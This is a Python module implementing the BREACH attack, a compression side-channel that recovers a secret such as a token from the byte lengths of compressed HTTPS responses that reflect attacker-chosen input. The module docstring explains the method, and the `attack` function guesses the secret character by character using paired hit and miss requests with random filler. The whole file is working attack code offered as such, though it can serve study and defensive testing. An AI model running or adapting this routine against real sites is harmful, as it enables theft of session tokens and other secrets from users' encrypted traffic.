"""The BREACH attack: guesses a secret by the lengths of pages that reflect what is asked.

Angelo Prado, Neal Harris and Yoel Gluck: "SSL, gone in 30 seconds", Black Hat USA 2013. A page
that has both a secret and a guess is shorter if the guess begins as the secret does. Two things
of theirs make that sure: every guess is tried twice, once where it continues what is known and
once with the same characters in another order, so that the codes of single characters make no
difference; and what follows the guess is another each time, so that no chance of one order is
taken for a hit. One thing is not theirs: of what is known only the end stands before a guess,
so that a hit is always as long, because a longer one may take a longer code.
"""

from __future__ import annotations

import random
import string
from collections import Counter
from collections.abc import Callable
from typing import NamedTuple

HEXADECIMAL = string.digits + "abcdef"

Measure = Callable[[str], int]
"""Has the victim send something to be reflected; returns how many bytes the answer takes."""


class Guessed(NamedTuple):
    """What an attack came to.

    :param text: what it takes for the secret.
    :param requests: how many requests that took.
    """

    text: str
    requests: int

    def right(self, secret: str) -> int:
        """Return how many characters are right before the first that is wrong."""
        pairs = zip(self.text, secret, strict=False)
        return next(
            (at for at, (one, other) in enumerate(pairs) if one != other), len(self.text)
        )


def attack(
    measure: Measure,
    known: str,
    length: int,
    *,
    alphabet: str = HEXADECIMAL,
    window: int = 13,
    lead: int = 3,
    rounds: int = 16,
    seed: int = 1,
) -> Guessed:
    """Guess a secret, character by character.

    :param known: what stands before it in the page.
    :param length: how many characters it has.
    :param alphabet: what these may be.
    :param window: how many characters of what is known stand before a guess.
    :param lead: by how many bytes a guess must have saved more than the next one to be taken.
    :param rounds: how often each is tried at most; then the first is taken, sure or not.
    """
    chooser = random.Random(seed)
    found, requests = "", 0
    for _ in range(length):
        before = f"{known}{found}"[-window:]
        saved: Counter[str] = Counter(dict.fromkeys(alphabet, 0))
        for _ in range(rounds):
            # No character of it is in the alphabet, so that it continues nothing.
            first, *filler = chooser.sample(string.ascii_uppercase, chooser.randrange(14, 26))
            rest = "".join(filler)
            for guess in alphabet:
                hit = measure(f"{before}{guess}-{first}{rest}")
                miss = measure(f"{before}{first}-{guess}{rest}")
                saved[guess] += miss - hit
                requests += 2
            (_, most), (_, next_most) = saved.most_common(2)
            if most - next_most >= lead:
                break
        found += saved.most_common(1)[0][0]
    return Guessed(found, requests)
